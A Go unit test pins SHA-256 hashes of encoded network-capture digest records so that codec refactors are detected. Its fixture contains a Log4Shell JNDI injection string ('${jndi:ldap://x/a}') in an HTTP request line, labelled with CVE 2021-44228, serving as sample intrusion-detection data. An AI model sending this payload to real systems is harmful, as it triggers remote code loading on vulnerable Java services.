package registry

import (
	"crypto/sha256"
	"fmt"
	"net/netip"
	"testing"
	"time"

	"repro/internal/packet"
)

// TestGoldenEncoding pins the SHA-256 of digest records built from fixed
// inputs, so a codec refactor that moves a byte in digests.log fails here.
func TestGoldenEncoding(t *testing.T) {
	full := Digest{
		Start:         time.Date(2021, 12, 10, 12, 0, 0, 123456789, time.UTC),
		Client:        packet.Endpoint{Addr: netip.MustParseAddr("203.0.113.9"), Port: 40001},
		Server:        packet.Endpoint{Addr: netip.MustParseAddr("2001:db8::1"), Port: 443},
		ClientData:    []byte("GET /${jndi:ldap://x/a} HTTP/1.1\r\n\r\n"),
		ServerData:    []byte("HTTP/1.1 404 Not Found\r\n\r\n"),
		Complete:      true,
		Truncated:     true,
		Ambiguous:     true,
		OrigSID:       58722,
		OrigCVE:       "2021-44228",
		OrigPublished: time.Date(2090, 1, 1, 0, 0, 0, 0, time.UTC),
	}
	var both []byte
	both = appendDigest(both, &full)
	both = appendDigest(both, &Digest{})
	for _, tc := range []struct {
		name string
		b    []byte
		sha  string
	}{
		{"digest", appendDigest(nil, &full), "a95f9c65e572deccf14ae88df0e203541ff3addd7f4cd29f45464562a3ca2d86"},
		{"digest-pair", both, "fd187c9cf7fc8d3e9b0047ce01caab2046a784623538236ec343d6cc98ce146f"},
	} {
		if got := fmt.Sprintf("%x", sha256.Sum256(tc.b)); got != tc.sha {
			t.Errorf("%s: sha256 %s, want %s", tc.name, got, tc.sha)
		}
	}
}
